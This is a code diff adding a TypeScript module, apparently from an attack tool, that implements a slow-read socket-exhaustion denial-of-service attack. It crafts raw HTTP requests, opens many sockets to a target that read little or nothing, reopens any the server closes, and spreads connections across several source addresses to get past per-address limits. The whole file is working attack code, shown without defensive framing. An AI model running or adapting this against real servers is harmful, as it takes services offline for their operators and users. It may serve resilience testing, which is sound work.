@@ -1,0 +1,56 @@
+import { connect, type Socket } from 'node:net'
+import { setTimeout as wait } from 'node:timers/promises'
+import type { Target } from './attack.ts'
+
+/** A request as bytes. */
+export function requestOf(path: string, headers: Record<string, string> = {}, body = ''): string {
+  const method = body === '' ? 'GET' : 'POST'
+  const all = { host: 'planner.example', ...headers, ...(body && { 'content-length': String(body.length) }) }
+  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`)
+  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n${body}`
+}
+
+type Options = {
+  /** How many are open at a time, from all addresses together. */
+  sockets: number
+  /** What is sent on one of them. */
+  bytes: () => string
+  /** Bytes that each reads in a second; none when left out. */
+  readsPerSecond?: number
+  /** How long one is kept that nobody ends; ms. Until it is over when left out. */
+  keptMs?: number
+}
+
+/** Opens sockets that ask and do not read, or hardly; whatever the server ends is opened again. */
+export async function unreadSockets(
+  target: Target,
+  { sockets, bytes, readsPerSecond = 0, keptMs }: Options,
+): Promise<void> {
+  const { hostname, port } = new URL(target.url)
+  const one = async (index: number) => {
+    const localAddress = target.addresses[index % target.addresses.length]
+    while (!target.isOver()) {
+      const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
+      socket.pause()
+      const ended = new Promise((resolve) => socket.once('close', resolve))
+      socket.on('error', () => {})
+      socket.write(bytes())
+      const reading =
+        readsPerSecond > 0 ? setInterval(() => readSome(socket, readsPerSecond), 1000) : undefined
+      await Promise.race([ended, overOf(target, keptMs)])
+      clearInterval(reading)
+      socket.destroy()
+      await wait(20)
+    }
+  }
+  await Promise.all(Array.from({ length: sockets }, (_, index) => one(index)))
+}
+
+function readSome(socket: Socket, bytes: number): void {
+  socket.read(Math.min(bytes, socket.readableLength)) ?? socket.read(0)
+}
+
+async function overOf({ isOver }: Target, keptMs = Number.POSITIVE_INFINITY): Promise<void> {
+  const end = performance.now() + keptMs
+  while (!isOver() && performance.now() < end) await wait(100)
+}
